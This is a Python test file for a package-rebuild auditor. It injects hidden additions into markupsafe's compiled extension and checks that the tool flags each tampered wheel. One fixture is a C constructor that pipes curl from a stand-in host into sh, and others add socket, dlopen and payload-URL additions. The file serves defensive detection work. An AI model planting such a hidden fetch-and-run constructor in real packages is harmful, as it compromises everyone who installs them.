"""A real extension module recompiled from the same sdist with one hidden addition (markupsafe 3.0.3 from
PyPI; its _speedups.c compiled on this host with gcc and an added C file, put into the real cp311 manylinux
wheel with RECORD kept true, as an attacker with upload rights would): a constructor that runs a command,
one that opens a socket, one that calls dlopen, and an added URL string alone. Served from a local index and
rebuilt in the container, each is `differs`, naming the member and what it adds; the real wheel beside
them is `partial` with its module interface-verified."""

from __future__ import annotations

import subprocess
import sysconfig
import tarfile
from datetime import datetime, timezone
from pathlib import Path

import pytest

from tests.conftest import PYPI
from tests.fixtureindex import lock_line, retag_wheel
from tests.test_interface import ADDED
from tests.test_toolchain import _pypi_files

UP = datetime(2025, 9, 27, tzinfo=timezone.utc)
MODULE = "markupsafe/_speedups.cpython-311-x86_64-linux-gnu.so"
CONSTRUCTOR_SYSTEM = r"""#include <stdlib.h>
__attribute__((constructor)) static void markupsafe_init_cache(void) {
  if (getenv("MARKUPSAFE_NEVER")) system("curl -s https://example.invalid/x | sh"); }"""
CONSTRUCTOR_SOCKET = ADDED["socket"] + "\n__attribute__((constructor)) static void warm(void) { if (0) phone_home(); }\n"
VARIANTS = {  # platform tag of the tampered copy -> the C added to _speedups.c, and what the verdict must name
    "manylinux_2_28_x86_64": (CONSTRUCTOR_SYSTEM, ["constructor", "imports system"]),
    "manylinux_2_31_x86_64": (CONSTRUCTOR_SOCKET, ["imports socket", "imports connect"]),
    "manylinux_2_34_x86_64": (ADDED["dlopen"], ["imports dlopen"]),
    "linux_x86_64": (ADDED["url"], ["https://updates.example-cdn.xyz/payload.bin"]),
}


def include_dir() -> Path:
    for d in (Path("/usr/include/python3.11"), Path(sysconfig.get_paths()["include"])):
        if (d / "Python.h").exists() and d.name == "python3.11":
            return d
    pytest.skip("no Python 3.11 headers on this host (scripts/setup.sh installs python3-dev)")


def test_recompiled_modules_with_hidden_additions_differ_and_the_real_one_does_not(tmp_path, index, auditor,
                                                                                   container_backend):
    files = _pypi_files("markupsafe", "3.0.3")
    sdist = next(n for n in files if n.endswith(".tar.gz"))
    real = next(n for n in files if "cp311-cp311-manylinux" in n and "x86_64" in n)
    for n in (sdist, real):
        (tmp_path / n).write_bytes(files[n])
    with tarfile.open(tmp_path / sdist) as tar:
        member = next(m for m in tar.getmembers() if m.name.endswith("src/markupsafe/_speedups.c"))
        source = tar.extractfile(member).read()
    inc = include_dir()
    out = tmp_path / "tampered"
    out.mkdir()
    hashes = [index.add("markupsafe", tmp_path / sdist, UP), index.add("markupsafe", tmp_path / real, UP)]
    names = {}
    for platform, (extra, _) in VARIANTS.items():
        c = tmp_path / f"{platform}.c"
        c.write_bytes(source + b"\n" + extra.encode() + b"\n")
        so = tmp_path / f"{platform}.so"
        subprocess.run(["gcc", "-shared", "-fPIC", "-O2", f"-I{inc}", str(c), "-o", str(so)], check=True,
                       capture_output=True)
        wheel = retag_wheel(tmp_path / real, out, platform, lambda m, so=so: m.__setitem__(MODULE, so.read_bytes()))
        names[platform] = wheel.name
        hashes.append(index.add("markupsafe", wheel, UP))
    lock = tmp_path / "requirements.txt"
    lock.write_text(lock_line("markupsafe", "3.0.3", *hashes))
    r = auditor("check", str(lock), "--index-url", index.url, "--build-index-url", PYPI, "--backend", container_backend)
    assert "Traceback" not in r.stderr
    by = {w["filename"]: w for w in r.package("markupsafe")["wheels"]}
    for platform, (_, words) in VARIANTS.items():
        w = by[names[platform]]
        assert w["verdict"] == "differs" and w["check"] == "rebuilt-binary", (platform, w["reason"])
        (d,) = [d for d in w["differences"] if d["path"] == MODULE]
        assert d["cls"] == "code" and all(x in d["detail"] for x in words), (platform, d["detail"])
        assert MODULE in w["reason"]
    honest = by[real]
    assert honest["verdict"] == "partial" and honest["verified"]["interface"] == 1, honest
    assert "glibc-merged-libraries" in honest["normalizations"] and "with the rebuild's interface" in honest["reason"]
    assert r.code == 1
    # the three counts per wheel in the report and summary.md, as in results.json
    page = (r.report_dir / "index.html").read_text()
    v = honest["verified"]
    assert f'<td class="verified">{v["bytes"]} / {v["normalized"]} / 1 / {v["not_verified"]}</td>' in page
    assert "bytes / normalized / interface / not verified" in (r.report_dir / "summary.md").read_text()
